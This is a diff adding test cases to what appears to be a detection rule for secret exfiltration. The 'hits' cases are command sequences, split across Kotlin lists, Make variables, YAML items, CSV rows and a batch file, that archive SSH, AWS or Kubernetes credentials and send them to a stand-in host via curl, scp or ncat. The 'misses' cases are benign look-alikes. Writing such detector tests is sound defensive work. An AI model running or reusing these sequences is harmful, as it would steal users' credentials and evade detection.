@@ -4,6 +4,36 @@ import { secretSent } from './secret-sent.ts';
 ruleCases(secretSent, {
   hits: [
     {
+      name: 'a theft in lists of words that a loop joins',
+      path: 'a.kts',
+      severity: 'high',
+      text: 'val a = listOf("tar", "czf", "/tmp/k.tgz", "~/.ssh")\nval b = listOf("curl", "-s", "-F", "f=@/tmp/k.tgz", "https://up.acme.test/u")\nfor (s in listOf(a, b)) run(s.joinToString(" "))\n',
+    },
+    {
+      name: 'a theft in variables of Make',
+      path: 'Makefile',
+      severity: 'high',
+      text: 'PACK = zip -qr /tmp/k.zip\nWHAT = $(HOME)/.aws/credentials\nPUT = curl -T /tmp/k.zip\nTO = https://up.acme.test/u\n\nsetup:\n\t$(PACK) $(WHAT)\n\t$(PUT) $(TO)\n',
+    },
+    {
+      name: 'a theft in items of YAML',
+      path: 'site.yml',
+      severity: 'high',
+      text: '- command:\n    argv: [tar, czf, /tmp/k.tgz, "{{ home }}/.ssh"]\n- command:\n    argv:\n      - scp\n      - /tmp/k.tgz\n      - me@up.acme.test:/in\n',
+    },
+    {
+      name: 'a theft in rows of a table',
+      path: 'a.csv',
+      severity: 'high',
+      text: 'tar,czf,/tmp/k.tgz,~/.kube/config\nncat,up.acme.test,4433,/tmp/k.tgz\n',
+    },
+    {
+      name: 'a theft in a batch file',
+      path: 'a.bat',
+      severity: 'high',
+      text: 'set A=tar czf %TEMP%\\k.tgz\nset B=%USERPROFILE%\\.ssh\nset C=curl -s -F f=@%TEMP%\\k.tgz\nset D=https://up.acme.test/u\n%A% %B%\n%C% %D%\n',
+    },
+    {
       name: 'a sign-in with an item of a keychain, rated medium',
       path: 'a.sh',
       text: 'curl -u "me:$(secret-tool lookup service nextcloud user me)" https://cloud.home.test/dav\n',
@@ -131,6 +161,21 @@ ruleCases(secretSent, {
     },
   ],
   misses: [
+    {
+      name: 'a build that packs what it built and uploads it',
+      path: 'Makefile',
+      text: 'KEY = ~/.ssh/deploy\nrelease:\n\techo building >> log\n\techo building >> log\n\techo building >> log\n\techo building >> log\n\techo building >> log\n\techo building >> log\n\techo building >> log\n\techo building >> log\n\techo building >> log\n\techo building >> log\n\techo building >> log\n\techo building >> log\n\tssh -i $(KEY) build@acme.test make\n\techo building >> log\n\techo building >> log\n\techo building >> log\n\techo building >> log\n\techo building >> log\n\techo building >> log\n\techo building >> log\n\techo building >> log\n\techo building >> log\n\techo building >> log\n\techo building >> log\n\techo building >> log\n\ttar czf dist.tgz dist\n\tcurl -T dist.tgz https://releases.acme.test/in\n',
+    },
+    {
+      name: 'an archive of keys that stays on the machine',
+      path: 'justfile',
+      text: 'backup:\n    tar czf /mnt/usb/keys.tgz ~/.ssh ~/.gnupg\n    curl -d @- http://localhost:9000/done\n',
+    },
+    {
+      name: 'a list of programs and of folders to leave out',
+      path: 'a.toml',
+      text: 'needs = ["tar", "curl", "zip"]\nskip = ["~/.ssh", "~/.aws"]\nhome = "https://acme.test"\n',
+    },
     {
       name: 'sessions of agents that are only counted',
       path: 'a.ts',
